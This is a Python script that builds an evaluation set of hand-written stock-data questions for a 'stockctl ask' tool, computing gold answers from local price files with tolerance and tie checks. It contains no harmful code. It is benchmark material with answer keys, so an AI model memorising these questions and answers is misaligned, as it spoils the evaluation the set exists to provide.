#!/usr/bin/env python3
"""blind-13: 240 hand-written questions for `stockctl ask`, with gold answers computed here from the raw files.

Standard library only. Data directory: $ASK_EVAL_DATA, else <repo>/../shared/data (repo = three levels above
this script's directory). Writes questions.jsonl beside this script, only when every check passes, then reads
it back and validates it.
"""
import csv
import glob
import json
import math
import os
import statistics
import sys
from datetime import date, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
DATA = os.environ.get("ASK_EVAL_DATA") or os.path.join(REPO, "..", "shared", "data")
OUT = os.path.join(HERE, "questions.jsonl")
NY = ZoneInfo("America/New_York")

TODAY = "2025-07-08"
ETFS = ("INDA", "FXY", "DBB")

# ----------------------------------------------------------------------------------------------------------------
# Loading
# ----------------------------------------------------------------------------------------------------------------

BARS = {}      # sym -> {date: (o, h, l, c, v)}
DATES = {}     # sym -> sorted list of session dates
POS = {}       # sym -> {date: index}
MINUTES = {}   # etf -> {date: [(HH:MM, o, h, l, c, v), ...]} in New York time, sorted


def _load():
    sdir = os.path.join(DATA, "stocks")
    files = sorted(glob.glob(os.path.join(sdir, "*.us.txt")))
    if not files:
        sys.exit("no daily files under %s" % sdir)
    for f in files:
        sym = os.path.basename(f).split(".")[0].upper()
        bars = {}
        with open(f, newline="") as fh:
            for r in csv.DictReader(fh):
                d = r["Date"]
                if d in bars:
                    sys.exit("duplicate date %s in %s" % (d, f))
                bars[d] = (float(r["Open"]), float(r["High"]), float(r["Low"]), float(r["Close"]),
                           float(r["Volume"]))
        BARS[sym] = bars
    idir = os.path.join(DATA, "intraday")
    ifiles = sorted(glob.glob(os.path.join(idir, "*.csv")))
    if not ifiles:
        sys.exit("no intraday files under %s" % idir)
    for f in ifiles:
        sym = os.path.basename(f).split("_")[0].upper()
        mins = {}
        seen = set()
        with open(f, newline="") as fh:
            for r in csv.DictReader(fh):
                ts = r["timestamp"]
                if ts in seen:
                    sys.exit("duplicate minute %s in %s" % (ts, f))
                seen.add(ts)
                utc = datetime.strptime(ts, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)
                loc = utc.astimezone(NY)
                d = loc.strftime("%Y-%m-%d")
                mins.setdefault(d, []).append((loc.strftime("%H:%M"), float(r["open"]), float(r["high"]),
                                               float(r["low"]), float(r["close"]), float(r["volume"])))
        for d in mins:
            mins[d].sort()
        MINUTES[sym] = mins
        bars = {}
        for d, ms in mins.items():
            bars[d] = (ms[0][1], max(m[2] for m in ms), min(m[3] for m in ms), ms[-1][4], sum(m[5] for m in ms))
        BARS[sym] = bars
    for sym, bars in BARS.items():
        DATES[sym] = sorted(bars)
        POS[sym] = {d: i for i, d in enumerate(DATES[sym])}


_load()
ALL = sorted(BARS)
DAILY = sorted(s for s in ALL if s not in ETFS)

# ----------------------------------------------------------------------------------------------------------------
# Checks
# ----------------------------------------------------------------------------------------------------------------

FAIL = []
CUR = ["-"]


def chk(cond, msg):
    if not cond:
        FAIL.append("%s: %s" % (CUR[0], msg))
    return cond


def tol(g):
    g = abs(g)
    return max(0.001 * g, 0.01 if g >= 1 else 0.0001)


def same(g, a):
    """a would be accepted for gold g by FORMAT's number rule."""
    return abs(g - a) <= tol(g)


def agree(g, alts, what):
    for name, a in alts:
        chk(same(g, a), "%s: reading %r gives %r, gold %r" % (what, name, a, g))


def margin(vals, k, what, rel=1e-4):
    """vals sorted best first: items 0..k-1 must be strictly separated from each other and from item k."""
    for i in range(min(k, len(vals) - 1)):
        a, b = vals[i], vals[i + 1]
        chk(abs(a - b) > rel * max(abs(a), abs(b), 1e-12), "%s: near tie at rank %d: %r vs %r" % (what, i + 1, a, b))


def off_threshold(vals, thr, what, rel=1e-6):
    for v in vals:
        chk(abs(v - thr) > rel * max(abs(thr), 1e-9), "%s: value %r sits on threshold %r" % (what, v, thr))


# ----------------------------------------------------------------------------------------------------------------
# Data helpers
# ----------------------------------------------------------------------------------------------------------------

O, H, L, C, V = range(5)


def D(s):
    return date.fromisoformat(s)


def is_session(sym, d):
    return d in BARS[sym]


def bar(sym, d):
    chk(is_session(sym, d), "%s has no session on %s" % (sym, d))
    return BARS[sym][d]


def f(sym, d, field):
    b = bar(sym, d)
    if field == "range":
        return b[H] - b[L]
    return b[field]


def sessions(sym, a, b):
    return [d for d in DATES[sym] if a <= d <= b]


def on_or_before(sym, d):
    ds = [x for x in DATES[sym] if x <= d]
    chk(bool(ds), "%s has no session on or before %s" % (sym, d))
    return ds[-1]


def prev(sym, d):
    i = POS[sym][d]
    chk(i > 0, "%s: no session before %s" % (sym, d))
    p = DATES[sym][i - 1]
    # a previous session more than a week back means a hole in the data (INDA's 2023-10 .. 2025-02 hole)
    chk((D(d) - D(p)).days <= 5, "%s: previous session of %s is %s (hole in data)" % (sym, d, p))
    return p


def ret(sym, d):
    bar(sym, d)
    return BARS[sym][d][C] / BARS[sym][prev(sym, d)][C] - 1


def gap(sym, d):
    bar(sym, d)
    return BARS[sym][d][O] / BARS[sym][prev(sym, d)][C] - 1


def rets(sym, a, b, first=True):
    ds = sessions(sym, a, b)
    if not first:
        ds = ds[1:]
    return [(d, ret(sym, d)) for d in ds]


def change(sym, a, b):
    ca, cb = on_or_before(sym, a), on_or_before(sym, b)
    return BARS[sym][cb][C] / BARS[sym][ca][C] - 1


def ma(sym, d, n):
    i = POS[sym][d]
    chk(i + 1 >= n, "%s: MA%d undefined on %s" % (sym, n, d))
    return sum(BARS[sym][x][C] for x in DATES[sym][i - n + 1:i + 1]) / n


def ma_defined(sym, d, n):
    return POS[sym][d] + 1 >= n


def pearson(xs, ys):
    mx, my = statistics.fmean(xs), statistics.fmean(ys)
    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = sum((x - mx) ** 2 for x in xs)
    syy = sum((y - my) ** 2 for y in ys)
    return sxy / math.sqrt(sxx * syy)


def month_end(y, m):
    if m == 12:
        return "%04d-12-31" % y
    return (date(y, m + 1, 1) - timedelta(days=1)).isoformat()


def month(y, m):
    return "%04d-%02d-01" % (y, m), month_end(y, m)


def quarter(y, q):
    return "%04d-%02d-01" % (y, 3 * q - 2), month_end(y, 3 * q)


def year(y):
    return "%04d-01-01" % y, "%04d-12-31" % y


def week_of(d):
    x = D(d)
    mon = x - timedelta(days=x.weekday())
    return mon.isoformat(), (mon + timedelta(days=4)).isoformat()


def minutes(sym, d, a="00:00", b="23:59"):
    return [m for m in MINUTES[sym].get(d, []) if a <= m[0] <= b]


def vwap(ms):
    v = sum(m[5] for m in ms)
    chk(v > 0, "vwap over no volume")
    return sum(m[4] * m[5] for m in ms) / v


def rnd(x):
    if isinstance(x, str):
        return x
    x = round(float(x), 8)
    if x == int(x) and abs(x) < 1e15:
        return int(x)
    return x


# ----------------------------------------------------------------------------------------------------------------
# Gold builders
# ----------------------------------------------------------------------------------------------------------------

def G_first(*cells):
    return {"rows": [list(cells)], "match": "first", "exact_rows": False}


def G_set(rows):
    return {"rows": [list(r) for r in rows], "match": "set", "exact_rows": True}


def G_ordered(rows, exact=True):
    return {"rows": [list(r) for r in rows], "match": "ordered", "exact_rows": exact}


FIELDS = {"open": O, "high": H, "low": L, "close": C, "volume": V, "range": "range"}


def fv(sym, d, name):
    return f(sym, d, FIELDS[name])


# --- rows -------------------------------------------------------------------------------------------------------

def latest_rows(sym, n, names, end=None):
    ds = DATES[sym] if end is None else [d for d in DATES[sym] if d <= end]
    if end is not None:
        chk(ds[-1] == end, "%s: %s is not its session" % (sym, end))
    rows = [[d] + [fv(sym, d, x) for x in names] for d in ds[-n:]]
    chk(len(rows) == n, "latest rows: fewer than %d" % n)
    return G_set(rows)


def range_rows(sym, a, b, names, n=None):
    chk(is_session(sym, a) and is_session(sym, b), "range rows: ends %s..%s must be sessions of %s" % (a, b, sym))
    ds = sessions(sym, a, b)
    if n is not None:
        chk(len(ds) == n, "range rows: expected %d sessions, got %d" % (n, len(ds)))
    return G_set([[d] + [fv(sym, d, x) for x in names] for d in ds])


def day_value(sym, d, name):
    return G_first(d, fv(sym, d, name))


# --- aggregates -------------------------------------------------------------------------------------------------

AGG = {
    "mean": statistics.fmean,
    "sum": sum,
    "max": max,
    "min": min,
}


def agg_value(sym, a, b, name, how):
    ds = sessions(sym, a, b)
    chk(len(ds) >= 2, "aggregate over %s..%s has %d sessions" % (a, b, len(ds)))
    return AGG[how]([fv(sym, d, name) for d in ds])


def window_aggregate(sym, a, b, name, how):
    return G_first(agg_value(sym, a, b, name, how))


def extreme_day(sym, a, b, name, how, alt_windows=()):
    ds = sessions(sym, a, b)
    pairs = sorted(((fv(sym, d, name), d) for d in ds), reverse=(how == "max"))
    margin([p[0] for p in pairs], 1, "extreme day")
    best = pairs[0]
    for wa, wb in alt_windows:
        ds2 = sessions(sym, wa, wb)
        p2 = sorted(((fv(sym, d, name), d) for d in ds2), reverse=(how == "max"))
        chk(p2[0][1] == best[1], "extreme day: window %s..%s gives %s, not %s" % (wa, wb, p2[0][1], best[1]))
    return G_first(best[1], best[0])


def wk52(sym, d, what):
    bar(sym, d)

    def calc(days):
        start = (D(d) - timedelta(days=days - 1)).isoformat()
        ds = sessions(sym, start, d)
        chk(D(ds[0]) - D(start) < timedelta(days=7), "52-week window of %s reaches before %s's data" % (d, sym))
        return min(BARS[sym][x][L] for x in ds), max(BARS[sym][x][H] for x in ds)

    lo, hi = calc(365)
    for alt in (364, 366, 371):
        lo2, hi2 = calc(alt)
        if what in ("low", "range"):
            chk(lo2 == lo, "52-week low differs with a %d-day window" % alt)
        if what in ("high", "range"):
            chk(hi2 == hi, "52-week high differs with a %d-day window" % alt)
    if what == "low":
        return G_first(lo)
    if what == "high":
        return G_first(hi)
    return G_first(lo, hi)


def change_between(sym, a, b, sessions_named=True):
    if sessions_named:
        chk(is_session(sym, a) and is_session(sym, b), "change: %s and %s must be sessions of %s" % (a, b, sym))
    return G_first(change(sym, a, b))


def day_return(sym, d):
    return G_first(d, ret(sym, d))


def day_gap(sym, d):
    return G_first(d, gap(sym, d))


MOVE = {
    "up": (lambda r: r, True),
    "down": (lambda r: r, False),
    "abs": (lambda r: abs(r), True),
}


def biggest_move(sym, a, b, how, measure="ret"):
    key, desc = MOVE[how]
    fn = ret if measure == "ret" else gap

    def best(first):
        ds = sessions(sym, a, b)
        if not first:
            ds = ds[1:]
        pairs = sorted(((key(fn(sym, d)), d) for d in ds), reverse=desc)
        return pairs

    pairs = best(True)
    margin([p[0] for p in pairs], 1, "biggest move")
    chk(best(False)[0][1] == pairs[0][1], "biggest move depends on the window's first session")
    d = pairs[0][1]
    val = fn(sym, d)
    if how == "abs":
        chk(val > 0, "largest move either way should be an up move (sign-free answer)")
    return G_first(d, val)


# --- cross-sectional ----------------------------------------------------------------------------------------------

def universe_on(d):
    u = [s for s in ALL if is_session(s, d)]
    chk(len(u) >= 2, "universe on %s has %d symbols" % (d, len(u)))
    return u


def metric_on(s, d, m):
    if m == "ret":
        return ret(s, d)
    if m == "gap":
        return gap(s, d)
    return fv(s, d, m)


def rank_on(d, m, n, desc=True, single=False):
    u = universe_on(d)
    pairs = sorted(((metric_on(s, d, m), s) for s in u), reverse=desc)
    margin([p[0] for p in pairs], n, "ranking")
    rows = [[s, v] for v, s in pairs[:n]]
    if single:
        return G_first(*rows[0])
    chk(n < len(pairs), "top %d of only %d symbols" % (n, len(pairs)))
    return G_ordered(rows)


def rank_all_on(d, m, desc=True):
    u = universe_on(d)
    pairs = sorted(((metric_on(s, d, m), s) for s in u), reverse=desc)
    margin([p[0] for p in pairs], len(pairs) - 1, "ranking")
    return G_ordered([[s, v] for v, s in pairs])


def universe_between(a, b):
    u = [s for s in ALL if is_session(s, a) and is_session(s, b)]
    chk(len(u) >= 2, "window universe %s..%s has %d symbols" % (a, b, len(u)))
    return u


def gainers(a, b, n, desc=True, single=False, expect=None):
    u = universe_between(a, b)
    if expect is not None:
        chk(sorted(u) == sorted(expect), "window universe %s..%s is %s" % (a, b, u))
    pairs = sorted(((change(s, a, b), s) for s in u), reverse=desc)
    margin([p[0] for p in pairs], n if n < len(pairs) else n - 1, "gainers")
    rows = [[s, v] for v, s in pairs[:n]]
    if single:
        return G_first(*rows[0])
    return G_ordered(rows)


def compare(pairs, mode, desc=True):
    """pairs: [(sym, value)]. mode 'which' -> ordered winner first; 'set' -> set."""
    vals = sorted(pairs, key=lambda p: p[1], reverse=desc)
    margin([p[1] for p in vals], 1, "comparison")
    if mode == "which":
        return G_ordered([list(p) for p in vals])
    return G_set([list(p) for p in pairs])


# --- grouped / period over period ----------------------------------------------------------------------------------

def period_value(sym, a, b, spec):
    ds = sessions(sym, a, b)
    chk(len(ds) >= 2, "period %s..%s has %d sessions" % (a, b, len(ds)))
    if spec == "last_close":
        return BARS[sym][ds[-1]][C]
    name, how = spec
    return AGG[how]([fv(sym, d, name) for d in ds])


def grouped(sym, periods, spec):
    return G_ordered([[period_value(sym, a, b, spec)] for a, b in periods])


def pop(sym, later, earlier, spec):
    lv = period_value(sym, later[0], later[1], spec)
    ev = period_value(sym, earlier[0], earlier[1], spec)
    return G_first(lv, ev, lv / ev - 1)


def candle(sym, a, b):
    ds = sessions(sym, a, b)
    chk(len(ds) >= 2, "candle over %s..%s" % (a, b))
    return G_first(BARS[sym][ds[0]][O], max(BARS[sym][d][H] for d in ds), min(BARS[sym][d][L] for d in ds),
                   BARS[sym][ds[-1]][C], sum(BARS[sym][d][V] for d in ds))


# --- moving averages ---------------------------------------------------------------------------------------------

def ma_value(sym, d, n):
    bar(sym, d)
    return G_first(d, ma(sym, d, n))


def _diff(sym, d, fast, slow):
    fval = BARS[sym][d][C] if fast == 1 else ma(sym, d, fast)
    return fval - ma(sym, d, slow)


def crossings(sym, fast, slow, a, b):
    out = []
    ds = [d for d in DATES[sym] if ma_defined(sym, d, slow)]
    for x, y in zip(ds, ds[1:]):
        if not (a <= y <= b):
            continue
        p, q = _diff(sym, x, fast, slow), _diff(sym, y, fast, slow)
        if p < 0 < q:
            out.append((y, "above", x))
        elif p > 0 > q:
            out.append((y, "below", x))
    return out


def cross(sym, fast, slow, a, b, direction, which, only=False):
    """which: 'first' or 'last' crossing in [a, b] of the given direction; only: it must be the only one."""
    cs = [c for c in crossings(sym, fast, slow, a, b) if c[1] == direction]
    chk(bool(cs), "no %s crossing of %s %d/%d in %s..%s" % (direction, sym, fast, slow, a, b))
    if only:
        chk(len(cs) == 1, "%d %s crossings in %s..%s, expected one" % (len(cs), direction, a, b))
    if not cs:
        return G_first("1900-01-01")
    d, _, p = cs[0] if which == "first" else cs[-1]
    for x in (p, d):
        diff = _diff(sym, x, fast, slow)
        chk(abs(diff) > 1e-4 * ma(sym, x, slow), "near tie of the two series on %s (%r)" % (x, diff))
    chk(d != a and d != b, "crossing falls on the window edge %s" % d)
    return G_first(d)


# --- counts -----------------------------------------------------------------------------------------------------

def count_days(sym, a, b, value, pred, thr, first_matters_check=True):
    """value(sym, d) -> number; pred(v) -> bool; thr: threshold(s) to keep values off."""
    ds = sessions(sym, a, b)
    vals = [value(sym, d) for d in ds]
    for t in (thr if isinstance(thr, (list, tuple)) else [thr]):
        off_threshold(vals, t, "count")
    n = sum(1 for v in vals if pred(v))
    if first_matters_check and value in (ret, gap):
        n2 = sum(1 for v in vals[1:] if pred(v))
        chk(n2 == n, "count depends on the window's first session")
    return G_first(n)


def count_stocks_on(d, value, pred, thr, expect_n=None):
    u = universe_on(d)
    if expect_n is not None:
        chk(len(u) == expect_n, "universe on %s has %d symbols" % (d, len(u)))
    vals = [value(s, d) for s in u]
    off_threshold(vals, thr, "cross-stock count")
    return G_first(sum(1 for v in vals if pred(v)))


def count_stocks_between(a, b, pred, thr, expect=None):
    u = universe_between(a, b)
    if expect is not None:
        chk(sorted(u) == sorted(expect), "window universe %s..%s is %s" % (a, b, u))
    vals = [change(s, a, b) for s in u]
    off_threshold(vals, thr, "cross-stock count")
    return G_first(sum(1 for v in vals if pred(v)))


# --- volatility / correlation / streak ------------------------------------------------------------------------------

def vol_of(sym, a, b, first=True):
    rs = [r for _, r in rets(sym, a, b, first)]
    chk(len(rs) >= 5, "volatility over %d returns" % len(rs))
    return statistics.stdev(rs)


def volatility(sym, a, b):
    v = vol_of(sym, a, b)
    agree(v, [("without the first session's return", vol_of(sym, a, b, False))], "volatility")
    return G_first(v)


def corr_of(s1, s2, a, b, first=True):
    r1 = dict(rets(s1, a, b, first))
    r2 = dict(rets(s2, a, b, first))
    common = sorted(set(r1) & set(r2))
    chk(len(common) >= 10, "correlation over %d common dates" % len(common))
    return pearson([r1[d] for d in common], [r2[d] for d in common])


def correlation(s1, s2, a, b):
    c = corr_of(s1, s2, a, b)
    agree(c, [("without the first session's return", corr_of(s1, s2, a, b, False))], "correlation")
    return G_first(c)


def streak_runs(sym, a, b, up, first=True):
    runs = []
    cur = []
    for d, r in rets(sym, a, b, first):
        if (r > 0) if up else (r < 0):
            cur.append(d)
        else:
            if cur:
                runs.append(cur)
            cur = []
    if cur:
        runs.append(cur)
    return runs


def streak(sym, a, b, up):
    runs = sorted(streak_runs(sym, a, b, up), key=len, reverse=True)
    chk(len(runs) >= 2 and len(runs[0]) > len(runs[1]), "longest streak is not unique")
    best = runs[0]
    runs2 = sorted(streak_runs(sym, a, b, up, False), key=len, reverse=True)
    chk(runs2[0] == best and len(runs2[0]) > len(runs2[1]), "streak depends on the window's first session")
    return G_first(len(best), best[0], best[-1])


# --- minutes ------------------------------------------------------------------------------------------------------

def day_vwap(sym, d):
    bar(sym, d)
    v = vwap(minutes(sym, d))
    agree(v, [("regular session only", vwap(minutes(sym, d, "09:30", "15:59")))], "day VWAP")
    return G_first(v)


def window_vwap(sym, d, a, b, alts=()):
    bar(sym, d)
    ms = minutes(sym, d, a, b)
    chk(len(ms) >= 3, "window VWAP over %d bars" % len(ms))
    v = vwap(ms)
    agree(v, [("%s-%s" % (x, y), vwap(minutes(sym, d, x, y))) for x, y in alts], "window VWAP")
    return G_first(v)


def minute_rows(sym, d, a, b, names, n=None, alts=()):
    bar(sym, d)
    ms = minutes(sym, d, a, b)
    if n is not None:
        chk(len(ms) == n, "minute rows: expected %d bars, got %d" % (n, len(ms)))
    for x, y in alts:
        chk(minutes(sym, d, x, y) == ms, "minute rows: reading %s-%s gives other bars" % (x, y))
    idx = {"open": 1, "high": 2, "low": 3, "close": 4, "volume": 5}
    return G_set([["%s %s" % (d, m[0])] + [m[idx[x]] for x in names] for m in ms])


# --- distance from high -------------------------------------------------------------------------------------------

def dist_high(sym, d):
    bar(sym, d)
    ds = [x for x in DATES[sym] if x <= d]
    hi = max(BARS[sym][x][C] for x in ds)
    v = BARS[sym][d][C] / hi - 1
    chk(v < -1e-4, "distance from high is not negative (%r)" % v)
    return G_first(d, v)


# ----------------------------------------------------------------------------------------------------------------
# The questions (written by hand; ids are given in this order, b001..b240)
# ----------------------------------------------------------------------------------------------------------------

QS = []


def Q(kind, text, fn):
    QS.append((kind, text, fn))


def R(kind, text):
    QS.append((kind, text, None))


JUN25 = month(2025, 6)
LAST_WEEK_READINGS = [("2025-06-30", "2025-07-04"), ("2025-07-01", "2025-07-08"), ("2025-07-02", "2025-07-08"),
                      ("2025-07-01", "2025-07-07")]

# --- latest-rows (8: 5 ETF, 3 daily) ---
Q("latest-rows", "Show me FXY's last 5 sessions with open, high, low and close.",
  lambda: latest_rows("FXY", 5, ["open", "high", "low", "close"]))
Q("latest-rows", "dbb closing prices for the past 3 trading days",
  lambda: latest_rows("DBB", 3, ["close"]))
Q("latest-rows", "What are the four most recent daily closes you have for INDA?",
  lambda: latest_rows("INDA", 4, ["close"]))
Q("latest-rows", "Give me DBB's daily high and low for each of the latest 4 sessions",
  lambda: latest_rows("DBB", 4, ["high", "low"]))
Q("latest-rows", "How has FXY closed each day so far this month?",
  lambda: range_rows("FXY", "2025-07-01", "2025-07-08", ["close"], n=5))
Q("latest-rows", "Show the final 5 closes for Microsoft in the dataset (the sessions up to 2017-11-10).",
  lambda: latest_rows("MSFT", 5, ["close"], end="2017-11-10"))
Q("latest-rows", "Nvidia's last three sessions ending Nov 10, 2017 - open, close and volume please",
  lambda: latest_rows("NVDA", 3, ["open", "close", "volume"], end="2017-11-10"))
Q("latest-rows", "amazon volume for the last 4 trading days on file, i.e. through 11/10/2017",
  lambda: latest_rows("AMZN", 4, ["volume"], end="2017-11-10"))

# --- day-value (8: 2 ETF, 6 daily) ---
Q("day-value", "What did Apple close at on June 24, 2016?", lambda: day_value("AAPL", "2016-06-24", "close"))
Q("day-value", "Tesla trading volume on 3/1/2017?", lambda: day_value("TSLA", "2017-03-01", "volume"))
Q("day-value", "How high did Netflix trade on Jan 19th '17?", lambda: day_value("NFLX", "2017-01-19", "high"))
Q("day-value", "IBM opening price 2015-10-20", lambda: day_value("IBM", "2015-10-20", "open"))
Q("day-value", "What was Amazon's intraday range (high minus low) on July 28, 2017?",
  lambda: day_value("AMZN", "2017-07-28", "range"))
Q("day-value", "coca-cola low on 12/1/2015", lambda: day_value("KO", "2015-12-01", "low"))
Q("day-value", "Where did FXY close on July 3rd, 2025?", lambda: day_value("FXY", "2025-07-03", "close"))
Q("day-value", "What was the high for DBB on 2025-04-09?", lambda: day_value("DBB", "2025-04-09", "high"))

# --- date-range-rows (8: 2 ETF, 6 daily) ---
Q("date-range-rows", "Coca-Cola closes from 2016-11-07 through 2016-11-11",
  lambda: range_rows("KO", "2016-11-07", "2016-11-11", ["close"], n=5))
Q("date-range-rows", "Daily open and close for Facebook from March 20 to March 24, 2017, both days included",
  lambda: range_rows("FB", "2017-03-20", "2017-03-24", ["open", "close"], n=5))
Q("date-range-rows", "JPMorgan's high and low each day during the week of Nov 14, 2016",
  lambda: range_rows("JPM", *week_of("2016-11-14"), ["high", "low"], n=5))
Q("date-range-rows", "Google volume every day from 8/1/2017 through 8/4/2017",
  lambda: range_rows("GOOGL", "2017-08-01", "2017-08-04", ["volume"], n=4))
Q("date-range-rows", "List AMD's closing prices from Dec 27, 2016 through Jan 4, 2017.",
  lambda: range_rows("AMD", "2016-12-27", "2017-01-04", ["close"], n=6))
Q("date-range-rows", "netflix daily closes jan 17 - jan 20 2017 inclusive",
  lambda: range_rows("NFLX", "2017-01-17", "2017-01-20", ["close"], n=4))
Q("date-range-rows", "DBB closes from 2025-06-02 through 2025-06-06",
  lambda: range_rows("DBB", "2025-06-02", "2025-06-06", ["close"], n=5))
Q("date-range-rows", "FXY open/high/low/close for each day in the week of April 7, 2025",
  lambda: range_rows("FXY", *week_of("2025-04-07"), ["open", "high", "low", "close"], n=5))

# --- window-aggregate (8: 2 ETF, 6 daily) ---
Q("window-aggregate", "Average daily volume for Apple in March 2017?",
  lambda: window_aggregate("AAPL", *month(2017, 3), "volume", "mean"))
Q("window-aggregate", "What was KO's mean closing price in Q3 2016?",
  lambda: window_aggregate("KO", *quarter(2016, 3), "close", "mean"))
Q("window-aggregate", "Total number of Nvidia shares traded in the first half of 2017",
  lambda: window_aggregate("NVDA", "2017-01-01", "2017-06-30", "volume", "sum"))
Q("window-aggregate", "What's the lowest close Intel had during 2015?",
  lambda: window_aggregate("INTC", *year(2015), "close", "min"))
Q("window-aggregate", "On average, how wide was Amazon's daily high-low range in October 2017?",
  lambda: window_aggregate("AMZN", *month(2017, 10), "range", "mean"))
Q("window-aggregate", "sum of MSFT volume over Q4 2016",
  lambda: window_aggregate("MSFT", *quarter(2016, 4), "volume", "sum"))
Q("window-aggregate", "Average close of FXY last month",
  lambda: window_aggregate("FXY", *JUN25, "close", "mean"))
Q("window-aggregate", "What was INDA's highest intraday high in April 2025?",
  lambda: window_aggregate("INDA", *month(2025, 4), "high", "max"))

# --- extreme-day (8: 2 ETF, 6 daily) ---
Q("extreme-day", "On which day in 2016 did Netflix close highest?",
  lambda: extreme_day("NFLX", *year(2016), "close", "max"))
Q("extreme-day", "Which day in Q1 2017 saw the heaviest trading volume in AMD?",
  lambda: extreme_day("AMD", *quarter(2017, 1), "volume", "max"))
Q("extreme-day", "When was JPMorgan's lowest close in the first half of 2016?",
  lambda: extreme_day("JPM", "2016-01-01", "2016-06-30", "close", "min"))
Q("extreme-day", "What day did Tesla hit its lowest low of 2016, and what was it?",
  lambda: extreme_day("TSLA", *year(2016), "low", "min"))
Q("extreme-day", "Which session in 2017 had the widest high-low range for Alphabet?",
  lambda: extreme_day("GOOGL", *year(2017), "range", "max"))
Q("extreme-day", "Which day in 2015 did IBM trade the most shares?",
  lambda: extreme_day("IBM", *year(2015), "volume", "max"))
Q("extreme-day", "Which day last week did DBB trade the most shares?",
  lambda: extreme_day("DBB", *LAST_WEEK_READINGS[0], "volume", "max", alt_windows=LAST_WEEK_READINGS[1:]))
Q("extreme-day", "INDA's lowest close in March 2025 - what day was that?",
  lambda: extreme_day("INDA", *month(2025, 3), "close", "min"))

# --- 52-week (8: 3 ETF, 5 daily) ---
Q("52-week", "52-week high for AAPL as of 2017-11-10?", lambda: wk52("AAPL", "2017-11-10", "high"))
Q("52-week", "What was Facebook's 52-week low on Dec 30, 2016?", lambda: wk52("FB", "2016-12-30", "low"))
Q("52-week", "Coca-Cola 52-week range as of June 30 2015", lambda: wk52("KO", "2015-06-30", "range"))
Q("52-week", "msft 52 week high on 9/30/2016", lambda: wk52("MSFT", "2016-09-30", "high"))
Q("52-week", "What was IBM's 52-week low as of February 12th, 2016?", lambda: wk52("IBM", "2016-02-12", "low"))
Q("52-week", "What's FXY's 52-week low as of today?", lambda: wk52("FXY", TODAY, "low"))
Q("52-week", "Give me DBB's 52-week range as of 2025-07-08", lambda: wk52("DBB", "2025-07-08", "range"))
Q("52-week", "FXY 52-week high as of April 21, 2025", lambda: wk52("FXY", "2025-04-21", "high"))

# --- change-between (8: 2 ETF, 6 daily) ---
Q("change-between", "How much did Amazon gain from the close on 2016-12-30 to the close on 2017-06-30, in percent?",
  lambda: change_between("AMZN", "2016-12-30", "2017-06-30"))
Q("change-between", "Percent change in Microsoft between Jan 1 2015 and Dec 31 2015",
  lambda: (chk(not is_session("MSFT", "2015-01-01"), "2015-01-01 should be a holiday"),
           change_between("MSFT", "2015-01-01", "2015-12-31", sessions_named=False))[1])
Q("change-between", "What was Tesla's % change from the 6/1/2017 close to the 9/1/2017 close?",
  lambda: change_between("TSLA", "2017-06-01", "2017-09-01"))
Q("change-between", "How did KO's price move from the March 1st close to the March 31st close, 2017?",
  lambda: change_between("KO", "2017-03-01", "2017-03-31"))
Q("change-between", "percent change for JPMorgan from the 11/8/2016 close to the 12/30/2016 close",
  lambda: change_between("JPM", "2016-11-08", "2016-12-30"))
Q("change-between", "How much did Nvidia rise from its 2015 year-end close to its 2016 year-end close?",
  lambda: (chk(DATES["NVDA"][POS["NVDA"]["2016-01-04"] - 1] == "2015-12-31"
               and on_or_before("NVDA", "2016-12-31") == "2016-12-30", "year-end sessions"),
           change_between("NVDA", "2015-12-31", "2016-12-30"))[1])
Q("change-between", "How much has FXY changed since the 2024 year-end close (Dec 31, 2024)?",
  lambda: change_between("FXY", "2024-12-31", TODAY))
Q("change-between", "DBB percent change from the April 8, 2025 close to the May 8, 2025 close",
  lambda: change_between("DBB", "2025-04-08", "2025-05-08"))

# --- daily-return-or-gap (9: 3 ETF, 6 daily) ---
Q("daily-return-or-gap", "What was Apple's daily return on 2016-06-24?", lambda: day_return("AAPL", "2016-06-24"))
Q("daily-return-or-gap", "How big was Netflix's opening gap on Oct 18, 2016?", lambda: day_gap("NFLX", "2016-10-18"))
Q("daily-return-or-gap", "By what percent did Facebook open above the prior close on July 27, 2017?",
  lambda: day_gap("FB", "2017-07-27"))
Q("daily-return-or-gap", "JPM return on 11/9/2016", lambda: day_return("JPM", "2016-11-09"))
Q("daily-return-or-gap", "Tesla's overnight gap on 2017-08-03", lambda: day_gap("TSLA", "2017-08-03"))
Q("daily-return-or-gap", "Intel's percent change on Oct 27th '17", lambda: day_return("INTC", "2017-10-27"))
Q("daily-return-or-gap", "FXY daily return on 2025-04-03", lambda: day_return("FXY", "2025-04-03"))
Q("daily-return-or-gap", "What was DBB's opening gap on April 7, 2025?", lambda: day_gap("DBB", "2025-04-07"))
Q("daily-return-or-gap", "How much did INDA rise on 5/12/2025?", lambda: day_return("INDA", "2025-05-12"))

# --- biggest-move-day (8: 2 ETF, 6 daily) ---
Q("biggest-move-day", "Which day had Netflix's largest single-day gain in 2016?",
  lambda: biggest_move("NFLX", *year(2016), "up"))
Q("biggest-move-day", "Biggest one-day drop for Apple in 2016?",
  lambda: biggest_move("AAPL", *year(2016), "down"))
Q("biggest-move-day", "What was Nvidia's largest daily move in either direction in 2017?",
  lambda: biggest_move("NVDA", *year(2017), "abs"))
Q("biggest-move-day", "When did Facebook have its biggest gap down in 2016?",
  lambda: biggest_move("FB", *year(2016), "down", measure="gap"))
Q("biggest-move-day", "Which day in H1 2017 did Coca-Cola fall the most?",
  lambda: biggest_move("KO", "2017-01-01", "2017-06-30", "down"))
Q("biggest-move-day", "Largest single-day gain for Alphabet in 2015",
  lambda: biggest_move("GOOGL", *year(2015), "up"))
Q("biggest-move-day", "DBB's biggest daily drop in April 2025",
  lambda: biggest_move("DBB", *month(2025, 4), "down"))
Q("biggest-move-day", "What was INDA's best day in May 2025?",
  lambda: biggest_move("INDA", *month(2025, 5), "up"))

# --- cross-sectional-ranking (9: 3 ETF, 6 daily) ---
Q("cross-sectional-ranking", "Top 3 stocks by volume on 2016-06-24",
  lambda: rank_on("2016-06-24", "volume", 3))
Q("cross-sectional-ranking", "Which stock had the best daily return on 7/27/2017?",
  lambda: rank_on("2017-07-27", "ret", 1, single=True))
Q("cross-sectional-ranking", "Rank the top 5 tickers by trading range (high - low) on October 27, 2017",
  lambda: rank_on("2017-10-27", "range", 5))
